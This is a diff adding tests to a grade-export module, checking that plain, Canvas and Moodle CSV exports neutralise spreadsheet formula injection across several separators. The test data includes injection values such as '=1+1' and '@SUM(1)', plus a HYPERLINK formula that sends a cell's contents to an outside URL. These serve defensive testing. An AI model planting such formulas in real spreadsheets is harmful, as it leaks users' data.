@@ -230,6 +230,40 @@ def test_no_cell_is_a_formula(text: str, first: str) -> None:
             assert cell[:1] not in "+-" or cell in ("", "-") or float(number) >= 0, cell
 
 
+@given(
+    st.lists(
+        st.sampled_from(
+            [*";,|\t\r\n\"'=+-@＝＠ a1", ";=1+1", ';"=1+1"', ",,+", '"";-2', "\n@SUM(1)"]
+        ),
+        max_size=12,
+    ).map("".join),
+    st.sampled_from(";,|\t"),
+)
+def test_no_cell_is_a_formula_behind_another_separator(text: str, separator: str) -> None:
+    mark = replace(ADA, student=f"a{text}", last_name=f"L{text}", first_name=f"F{text}")
+    for told in (export.plain([mark]), export.canvas([mark]).text, export.moodle([mark]).text):
+        read = list(csv.reader(io.StringIO(told, newline=""), delimiter=separator))
+        read += [line.split(separator) for line in told.splitlines()]  # one that knows no quotes
+        for cell in (cell for line in read for cell in line):
+            assert not cell.startswith(tuple("=+-@＝＠")), cell
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "good, -1 for style",
+        "x=1; y = 2",
+        "a-b,c-d",
+        "1,5",
+        "-1,5",
+        "Monday, 2 February 2026, 3:58 PM",
+    ],
+)
+def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
+    mark = replace(ADA, first_name=text)
+    assert table(export.plain([mark]))[1][2] == text
+
+
 def test_formulas_that_the_platforms_file_holds_are_text_too(tmp_path: Path) -> None:
     bad = '=HYPERLINK("https://example.org?"&A1)'
     path = write(tmp_path / "canvas.csv", [HEADER, [bad, "1815", "-5", "+1 555", "", "", "-3.5"]])
